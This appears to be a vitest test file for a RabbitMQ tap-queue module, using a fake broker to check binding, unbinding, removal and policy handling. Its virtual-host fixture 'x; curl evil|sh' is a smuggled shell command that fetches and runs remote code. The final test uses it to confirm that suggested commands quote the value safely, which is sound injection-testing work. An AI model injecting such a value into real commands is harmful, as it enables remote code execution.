import {expect, test} from 'vitest'

import {destinationId} from '../../../src/model/id.ts'
import type {Tap} from '../../../src/model/plan.ts'
import {tapQueueOf} from '../../../src/model/tap.ts'
import type {AmqpConnection} from '../../../src/protocols/amqp091/connection.ts'
import type {Answer, ManagementApi} from '../../../src/protocols/management.ts'
import {RabbitmqTaps} from '../../../src/sources/rabbitmq/taps.ts'

const VHOST = 'x; curl evil|sh'
const EXCHANGE = destinationId('exchange', VHOST, 'orders')
const QUEUE = tapQueueOf(EXCHANGE)
const never = new AbortController().signal
const tap = (...keys: string[]): Tap => ({exchange: EXCHANGE, keys, most: 10})

interface Bound {
  readonly source: string
  readonly routing_key: string
  readonly arguments: Record<string, unknown>
}

/** A broker with one tap, as AMQP and as the management API show it. */
class FakeBroker {
  readonly deleted: string[] = []
  bound: Bound[]
  /** False = the user may not ask the API. */
  told = true
  policy: Record<string, unknown> = {}
  /** Answers without a word about policies, as in the first seconds of a queue, though its numbers are told. */
  silent = 0
  exists = true
  /** What `bind` is refused with. */
  refusal: number | undefined
  /** True = arguments of a binding are of a type that JSON cannot tell. */
  keeps = false

  constructor(...keys: string[]) {
    this.bound = keys.map((key) => ({source: 'orders', routing_key: key, arguments: {}}))
  }

  get taps(): RabbitmqTaps {
    return new RabbitmqTaps({
      connection: () => Promise.resolve(this.#connection),
      api: () => Promise.resolve(this.#api),
    })
  }

  get keys(): string[] {
    return this.bound.map(({source, routing_key: key}) => `${source}:${key}`)
  }

  get #connection(): AmqpConnection {
    const channel = {
      checkQueue: () =>
        this.exists
          ? Promise.resolve({messageCount: 0})
          : Promise.reject(Object.assign(new Error('NOT_FOUND'), {code: 404})),
      assertQueue: () => Promise.resolve(),
      bindQueue: (_: string, source: string, key: string) => this.#bind(source, key),
      unbindQueue: (_: string, source: string, key: string) => {
        if (!this.keeps)
          this.bound = this.bound.filter((one) => one.source !== source || one.routing_key !== key)
        return Promise.resolve()
      },
      deleteQueue: (name: string) => Promise.resolve(this.deleted.push(name)),
      close: () => Promise.resolve(),
    }
    return {version: '4.0.5', openChannel: () => Promise.resolve(channel)} as unknown as AmqpConnection
  }

  #bind(source: string, key: string): Promise<void> {
    if (this.refusal !== undefined)
      return Promise.reject(Object.assign(new Error('refused'), {code: this.refusal}))
    if (!this.keys.includes(`${source}:${key}`)) this.bound.push({source, routing_key: key, arguments: {}})
    return Promise.resolve()
  }

  get #api(): ManagementApi {
    const get = ([, , , what]: readonly string[]): Promise<Answer> => {
      const endpoint = 'GET /api/queues'
      if (!this.told)
        return Promise.resolve({ok: false, endpoint, status: 401, problem: 'not-permitted', reason: 'no'})
      const byDefault = {source: '', routing_key: 'mqlift.tap.orders', arguments: {}}
      const bindings = [byDefault, ...this.bound].map((one) => ({...one, destination: 'mqlift.tap.orders'}))
      const untold = what === undefined && this.silent-- > 0
      const queue = {messages: 0, ...(!untold && {effective_policy_definition: this.policy})}
      const body = what === 'bindings' ? bindings : queue
      return Promise.resolve({ok: true, endpoint, body, date: undefined})
    }
    return {get} as unknown as ManagementApi
  }
}

test('a tap that is found keeps what this plan binds, and nothing else', async () => {
  const broker = new FakeBroker('old', 'both')
  broker.bound.push({source: 'other', routing_key: 'both', arguments: {}})
  expect(await broker.taps.make(QUEUE, tap('both', 'new'), never)).toBe('found')
  expect(broker.keys).toEqual(['orders:both', 'orders:new'])
})

test('unbind takes off what a plan before this one has bound', async () => {
  const broker = new FakeBroker('old', 'both')
  await broker.taps.unbind(QUEUE, tap('both'))
  expect(broker.keys).toEqual([])
})

test('unbind without the API takes off what this plan has bound', async () => {
  const broker = new FakeBroker('old', 'both')
  broker.told = false
  await broker.taps.unbind(QUEUE, tap('both'))
  expect(broker.keys).toEqual(['orders:old'])
})

test('a binding that does not go is said', async () => {
  const broker = new FakeBroker('a')
  broker.keeps = true
  await expect(broker.taps.unbind(QUEUE, tap('a'))).rejects.toMatchObject({
    kind: 'refused',
    reason: 'tap-bound',
    message: expect.stringContaining('orders with key "a"'),
  })
})

test('a tap that is bound is not removed', async () => {
  const broker = new FakeBroker('old')
  await expect(broker.taps.remove(QUEUE)).rejects.toMatchObject({kind: 'refused', reason: 'tap-bound'})
  expect(broker.deleted).toEqual([])
  broker.bound = []
  expect(await broker.taps.remove(QUEUE)).toBe(0)
  expect(broker.deleted).toEqual(['mqlift.tap.orders', 'mqlift.tap.orders.overflow'])
})

test('a tap of which nobody says what is bound to it is not removed', async () => {
  const broker = new FakeBroker()
  broker.told = false
  await expect(broker.taps.remove(QUEUE)).rejects.toMatchObject({kind: 'refused', reason: 'tap-bound'})
  expect(broker.deleted).toEqual([])
})

test('a policy that is told after the numbers is waited for', async () => {
  const broker = new FakeBroker()
  broker.exists = false
  broker.silent = 2
  broker.policy = {'message-ttl': 1000}
  await expect(broker.taps.make(QUEUE, tap('a'), never)).rejects.toMatchObject({reason: 'tap-policy'})
  expect(broker.keys).toEqual([])
})

test('commands hand the shell one word for the virtual host', async () => {
  const denied = new FakeBroker()
  denied.refusal = 403
  await expect(denied.taps.make(QUEUE, tap('a'), never)).rejects.toMatchObject({
    reason: 'not-permitted',
    suggestions: [expect.stringContaining("set_permissions -p 'x; curl evil|sh' <user>")],
  })
  const limited = new FakeBroker()
  limited.exists = false
  limited.policy = {'message-ttl': 1000}
  await expect(limited.taps.make(QUEUE, tap('a'), never)).rejects.toMatchObject({
    reason: 'tap-policy',
    suggestions: expect.arrayContaining([
      expect.stringContaining("set_policy -p 'x; curl evil|sh' --priority"),
    ]),
  })
})
